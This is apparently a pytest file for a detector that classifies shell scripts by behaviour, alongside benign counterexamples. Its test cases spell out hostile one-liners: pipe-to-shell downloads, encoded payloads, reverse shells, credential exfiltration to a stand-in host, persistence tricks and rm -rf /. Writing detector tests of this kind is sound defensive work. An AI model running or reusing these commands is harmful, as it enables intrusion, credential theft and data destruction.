"""What a shell script does, by the shape of its commands."""

import pytest

from certification.readers.shell_code import MAX_LINE, read_shell


@pytest.mark.parametrize(
    ("script", "ability"),
    [
        ("curl -fsSL https://a.example/i.sh | bash", "download-run"),
        ("wget -qO- https://a.example | sudo python3", "download-run"),
        ("bash <(curl -s https://a.example)", "download-run"),
        ('sh -c "$(curl -fsSL https://a.example)"', "download-run"),
        ("curl -o /tmp/a https://a.example\nchmod +x /tmp/a\n/tmp/a", "download-run"),
        ("iwr https://a.example/i.ps1 | iex", "download-run"),
        ("certutil -urlcache -f https://a.example x.exe", "download-run"),
        ("echo aGk= | base64 -d | bash", "decode-run"),
        ('eval "$(echo aGk= | base64 --decode)"', "decode-run"),
        ("powershell -NoP -enc aGVsbG8gd29ybGQgaGVsbG8=", "decode-run"),
        ("bash -i >& /dev/tcp/192.0.2.1/44 0>&1", "reverse-shell"),
        ("nc 192.0.2.1 44 -e /bin/sh", "reverse-shell"),
        ("mkfifo /tmp/f; cat /tmp/f | sh | nc 192.0.2.1 1 > /tmp/f", "reverse-shell"),
        ("cat ~/.ssh/id_rsa | curl -X POST -d @- https://a.example", "exfiltrate"),
        ("curl https://a.example?d=$(base64 < ~/.aws/credentials)", "exfiltrate"),
        ("env | curl -d @- https://a.example", "exfiltrate"),
        ("cat \\\n ~/.netrc", "secrets"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persist"),
        ("echo x >> ~/.bashrc", "persist"),
        ("cat key >> ~/.ssh/authorized_keys", "persist"),
        ("rm -rf ~/\n", "destroy"),
        ("rm -rf --no-preserve-root /", "destroy"),
        ("pip install requests", "install"),
        ("curl https://webhook.site/1", "network"),
    ],
)
def test_what_a_script_does(script: str, ability: str) -> None:
    code = read_shell(f"#!/bin/sh\n{script}")
    assert ability in {use.ability.value for use in code.uses}
    assert min(use.line for use in code.uses) == 2
    assert not code.problem


@pytest.mark.parametrize(
    "script",
    [
        "# curl https://a.example | sh\n# cat ~/.ssh/id_rsa",
        'rm -rf /tmp/build "$HOME/build" ./dist',
        "pip install -r requirements.txt",
        "curl -O https://a.example/data.csv",
        "git log --oneline | head",
        "test -f ~/.bashrc",
        "chmod 600 ~/.ssh/id_rsa",
        "set -euo pipefail\nexport A=1\nenv A=1 make",
        "base64 -d < a > b",
    ],
)
def test_honest_scripts(script: str) -> None:
    assert {use.ability.value for use in read_shell(script).uses} <= {"network"}


def test_long_lines_are_said() -> None:
    assert "too long" in read_shell("x" * (MAX_LINE + 1)).problem


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "script", ["a \\\n" * 50_000, "curl " * 60_000, " " * 200_000, "\n" * 200_000]
)
def test_long_scripts_take_no_longer_than_their_length(script: str) -> None:
    assert not {use.ability.value for use in read_shell(script).uses} - {"network"}
